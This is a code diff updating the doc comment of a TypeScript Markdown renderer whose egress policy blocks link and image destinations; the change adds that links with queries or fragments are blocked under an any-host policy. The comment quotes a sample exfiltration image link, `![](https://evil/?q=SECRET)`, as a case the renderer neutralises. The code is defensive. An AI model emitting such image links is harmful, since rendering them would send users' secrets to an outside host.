@@ -23,10 +23,12 @@ const engines = new WeakMap<ResolvedMarkdownOptions['policy'], Map<string, Engin
  * Renders Markdown (CommonMark plus markdown-it's tables and strikethrough) to HTML for a UI. Raw HTML is
  * always off: tags in the source are text. Every link and image destination — inline, reference-style,
  * autolink and, with `linkify`, bare URLs — is checked by the egress policy exactly as it will be written
- * into `href` or `src`. A blocked destination leaves its Markdown as literal text (so
- * `![](https://evil/?q=SECRET)` shows as text and loads nothing); a relative or empty destination is blocked
- * too, since it would resolve against the page. Kept links get `rel="noopener noreferrer nofollow ugc"`.
- * Images follow the `images` mode. Never throws on content.
+ * into `href` or `src`, as a link (`checkUrl`'s `link` option): under a policy with `hosts: 'any'` a
+ * destination with a query or a fragment is blocked, since a click would carry them to a host nobody chose. A
+ * blocked destination leaves its Markdown as literal text (so `![](https://evil/?q=SECRET)` shows as text and
+ * neither loads nor links); a relative or empty destination is blocked too, since it would resolve against
+ * the page. Kept links get `rel="noopener noreferrer nofollow ugc"`. Images follow the `images` mode. Never
+ * throws on content.
  */
 export function renderMarkdown(source: string, options: MarkdownOptions): MarkdownRendering {
   if (typeof (source as unknown) !== 'string') throw new TypeError('renderMarkdown takes a string.');
